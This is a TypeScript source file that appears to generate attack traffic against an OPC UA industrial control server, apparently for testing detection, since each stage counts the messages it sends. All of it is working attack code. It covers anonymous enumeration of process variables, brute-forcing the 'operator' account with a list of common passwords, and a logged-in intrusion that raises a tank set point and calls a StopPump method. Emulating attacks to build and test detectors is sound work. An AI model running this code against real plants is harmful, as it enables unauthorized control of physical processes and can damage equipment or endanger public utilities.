import { AttributeIds, BrowseDirection, type ClientSession, DataType, MessageSecurityMode, SecurityPolicy, UserTokenType } from 'node-opcua';
import { client, ENDPOINT } from './opcua-client.ts';
import { type Counts, count, sleep } from './wiring.ts';

const NAME = 'uaexplorer';
const GUESSES = ['admin', 'operator', 'password', '123456', 'Passw0rd', 'scada', 'plant', 'water'];

const connecting = (folder: string) => client({ name: NAME, folder, mode: MessageSecurityMode.None, policy: SecurityPolicy.None });

/** FindServers and GetEndpoints, an anonymous session, a walk through the address space and a read of every value found. */
export async function discover(folder: string): Promise<Counts> {
  const sent: Counts = {};
  const opc = await connecting(folder);
  await opc.connect(ENDPOINT);
  count(sent, 'FindServers');
  await opc.findServers();
  count(sent, 'GetEndpoints');
  await opc.getEndpoints();
  const session = await opc.createSession({ type: UserTokenType.Anonymous });
  const found = await walk(session, 'i=85', sent);
  for (const nodeId of found) {
    count(sent, 'Read');
    await session.read({ nodeId, attributeId: AttributeIds.Value });
  }
  await session.close();
  await opc.disconnect();
  return sent;
}

/** Below `root`, three levels deep; the nodes that are variables. */
async function walk(session: ClientSession, root: string, sent: Counts): Promise<string[]> {
  const variables: string[] = [];
  let level = [root];
  for (let depth = 0; depth < 4; depth++) {
    const next: string[] = [];
    for (const nodeId of level.slice(0, 60)) {
      count(sent, 'Browse');
      const result = await session.browse({
        nodeId,
        browseDirection: BrowseDirection.Forward,
        referenceTypeId: 'i=33',
        includeSubtypes: true,
        nodeClassMask: 0,
        resultMask: 63,
      });
      for (const reference of result.references ?? []) {
        next.push(reference.nodeId.toString());
        if (reference.nodeClass === 2 && reference.nodeId.namespace === 1) variables.push(reference.nodeId.toString());
      }
    }
    level = next;
  }
  return variables;
}

/** Tries passwords of one user until one fits; each goes over the wire as it is. */
export async function guess(folder: string): Promise<Counts> {
  const sent: Counts = {};
  for (const password of GUESSES) {
    const opc = await connecting(folder);
    await opc.connect(ENDPOINT);
    count(sent, 'ActivateSession');
    const session = await opc.createSession({ type: UserTokenType.UserName, userName: 'operator', password }).catch(() => undefined);
    await session?.close();
    await opc.disconnect();
    await sleep(300);
  }
  return sent;
}

/** As a user that was guessed: writes a set point never seen, and calls a method nobody calls. */
export async function intrude(folder: string): Promise<Counts> {
  const sent: Counts = {};
  const opc = await connecting(folder);
  await opc.connect(ENDPOINT);
  const session = await opc.createSession({ type: UserTokenType.UserName, userName: 'operator', password: 'water' });
  for (const level of [95, 98]) {
    count(sent, 'Write');
    await session.write({ nodeId: 'ns=1;s=Tank.Setpoint', attributeId: AttributeIds.Value, value: { value: { dataType: DataType.Double, value: level } } });
    await sleep(800);
  }
  count(sent, 'Call');
  await session.call({ objectId: 'ns=1;s=Plant', methodId: 'ns=1;s=Plant.StopPump', inputArguments: [] });
  await session.close();
  await opc.disconnect();
  return sent;
}
